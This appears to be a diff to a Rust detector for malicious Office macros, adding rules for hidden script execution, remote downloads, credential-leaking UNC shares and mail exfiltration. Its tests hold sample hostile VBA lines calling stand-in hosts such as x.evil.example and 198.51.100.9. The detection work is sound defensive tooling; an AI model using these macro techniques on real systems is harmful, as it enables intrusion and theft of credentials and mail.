@@ -10,6 +10,9 @@ use crate::artifact::Sign;
 /// What is opened, started or sent in a roundabout way.
 pub(super) fn opening(lines: &[Line], texts: &[Folded], signs: &mut Collected) {
     let module = Module::of(lines, texts);
+    for folded in texts.iter().filter(|folded| is_strange_share(&folded.text)) {
+        signs.add(Sign::SendsOut, &folded.text, folded.line);
+    }
     let shows = |line: &&Line| WAYS.iter().any(|(word, _, _)| line_has(line, &[*word]));
     for line in lines.iter().filter(shows) {
         let said = said_on(line.number, texts);
@@ -40,6 +43,7 @@ struct Module {
     transforms: bool,
     copies_own_file: bool,
     reads_files: bool,
+    reads_mail: bool,
 }
 
 impl Module {
@@ -54,6 +58,7 @@ impl Module {
             transforms: has(&["transformnode", "transformnodetoobject"]),
             copies_own_file: lines.iter().any(copies),
             reads_files: has(&["loadfromfile"]),
+            reads_mail: has(&["getdefaultfolder"]),
         }
     }
 }
@@ -73,11 +78,18 @@ const WAYS: &[Way] = &[
     ("attachedtemplate", Sign::Download, |place| is_far_document(place.said)),
     // A style sheet may hold a script (MSXML: msxsl:script).
     ("load", Sign::ProcessStart, |place| place.module.transforms && place.said.contains("://")),
+    ("loadxml", Sign::ProcessStart, |place| place.module.transforms && is_out_of_sight(place.after)),
+    // Monikers: the class of scripts, a page that is loaded with its scripts.
+    ("getobject", Sign::ProcessStart, |place| place.said.contains("script:")),
+    ("getobject", Sign::Download, |place| place.said.contains("http://") || place.said.contains("https://")),
+    ("installproduct", Sign::Download, |place| is_far(place.said)),
     ("ddeinitiate", Sign::ProcessStart, |place| talks_to_shell(place.said)),
     ("sendkeys", Sign::ProcessStart, |place| names_interpreter(place.said)),
     ("regwrite", Sign::ProcessStart, |place| is_starting_key(place.said)),
     ("registerxll", Sign::ProcessStart, |place| is_dropping_place(place.said)),
     ("eval", Sign::ProcessStart, |place| place.module.has_script_control && is_computed(place.after)),
+    // A page in memory runs what it is given; a script written here can be read here.
+    ("execscript", Sign::ProcessStart, |place| is_out_of_sight(place.after)),
     ("executeexcel4macro", Sign::ProcessStart, |place| is_cell(place.after)),
     ("send", Sign::SendsOut, |place| sends_away(place)),
 ];
@@ -138,6 +150,18 @@ fn is_number(host: &str) -> bool {
     host.parse::<std::net::Ipv4Addr>().is_ok()
 }
 
+/// A share on a machine of the internet that is named by its number: Windows sends it who is logged on.
+fn is_strange_share(text: &str) -> bool {
+    let Some(host) = text.strip_prefix("\\\\") else { return false };
+    let number: String = host.chars().take_while(|c| c.is_ascii_digit() || *c == '.').collect();
+    let ends = host.get(number.len()..).is_some_and(|rest| rest.starts_with(['\\', '@']));
+    let strange = |host: std::net::Ipv4Addr| {
+        !(host.is_private() || host.is_loopback() || host.is_link_local() || host.is_broadcast())
+            && host.octets().first().is_some_and(|first| *first != 0)
+    };
+    ends && number.parse().is_ok_and(strange)
+}
+
 /// Whether a conversation is begun with what starts programs: an interpreter, or the shell itself.
 fn talks_to_shell(said: &str) -> bool {
     const SHELLS: &[&str] = &["cmd", "systray", "progman", "powershell", "mshta", "explorer"];
@@ -179,6 +203,13 @@ fn is_computed(after: &[Token]) -> bool {
     after.iter().any(|token| matches!(token, Token::Word(_)))
 }
 
+/// Whether an argument is text of the document that a person does not see in it.
+fn is_out_of_sight(after: &[Token]) -> bool {
+    after
+        .iter()
+        .any(|token| matches!(token, Token::Word(word) if words::HIDING_PLACES.contains(&word.as_str())))
+}
+
 /// Whether the argument is what a cell says. Values of closed workbooks are read with a reference put together.
 fn is_cell(after: &[Token]) -> bool {
     const CELLS: &[&str] = &["range", "cells", "sheets", "worksheets", "activecell", "activesheet"];
@@ -192,7 +223,9 @@ fn sends_away(place: &Place) -> bool {
     const NAMES: &[&str] = &["computername", "username", "userdomain", "userprofile", "userdnsdomain"];
     let told = NAMES.iter().any(|name| place.said.contains(name))
         || line_has(place.line, &["userdomain", "computername"]);
-    told || place.module.reads_files && line_has(place.line, &["read"])
+    let reads = place.module.reads_files && line_has(place.line, &["read"]);
+    told || reads
+        || place.module.reads_mail && line_has(place.line, &["body", "htmlbody", "senderemailaddress"])
 }
 
 #[cfg(test)]
@@ -226,11 +259,21 @@ mod tests {
             ("x.Load \"http://x.evil.example/a.xsl\"\nx.transformNode x", Sign::ProcessStart),
             ("c = DDEInitiate(\"Shell\", \"SysTray\")", Sign::ProcessStart),
             ("x.DDEInitiate \"cmd\", \"/c echo tenpu-test\"", Sign::ProcessStart),
+            ("x.LoadXML ThisDocument.CustomXMLParts(3).XML\nx.transformNode x", Sign::ProcessStart),
+            ("GetObject \"scr\" & \"ipt:\" & c", Sign::ProcessStart),
+            ("GetObject \"https://x.evil.example/a.html\"", Sign::Download),
+            ("i.InstallProduct \"http://x.evil.example/a.msi\"", Sign::Download),
+            ("s.AddPicture \"\\\\198.51.100.9\\s\\x.png\"", Sign::SendsOut),
+            ("f = o.GetDefaultFolder(6)\nh.send m.Body", Sign::SendsOut),
             ("SendKeys \"cmd /c echo tenpu-test{ENTER}\"", Sign::ProcessStart),
             ("w.RegWrite \"HKCU\\Software\\Classes\\a\\shell\\open\\command\\\", p", Sign::ProcessStart),
             ("Application.RegisterXLL Environ(\"TEMP\") & \"\\b.xll\"", Sign::ProcessStart),
             ("Set c = CreateObject(\"ScriptControl\")\nc.Eval t", Sign::ProcessStart),
             ("ExecuteExcel4Macro Range(\"A1\").Value", Sign::ProcessStart),
+            (
+                "h.parentWindow.execScript ActiveDocument.CustomXMLParts(4).XML, \"JScript\"",
+                Sign::ProcessStart,
+            ),
             ("h.send Environ(\"COMPUTERNAME\") & x", Sign::SendsOut),
             ("s.LoadFromFile p\nh.Send s.Read", Sign::SendsOut),
         ] {
@@ -256,8 +299,14 @@ mod tests {
             "Application.RegisterXLL ThisWorkbook.Path & \"\\calc.xll\"",
             "v = ExecuteExcel4Macro(\"GET.DOCUMENT(50)\")",
             "v = ExecuteExcel4Macro(\"'\" & p & \"[\" & f & \"]Sheet1'!\" & Range(r).Address(, , xlR1C1))",
+            "h.parentWindow.execScript code, \"JScript\"",
             "h.send",
             "h.send body",
+            "h.Send Request.Body",
+            "p = \"\\\\192.168.1.20\\share\\a.png\"",
+            "p = \"\\\\198.51.100.9\"",
+            "Set x = GetObject(, \"Excel.Application\")",
+            "i.InstallProduct p",
             "m.Send",
         ] {
             assert_eq!(signs(source), [], "{source}");
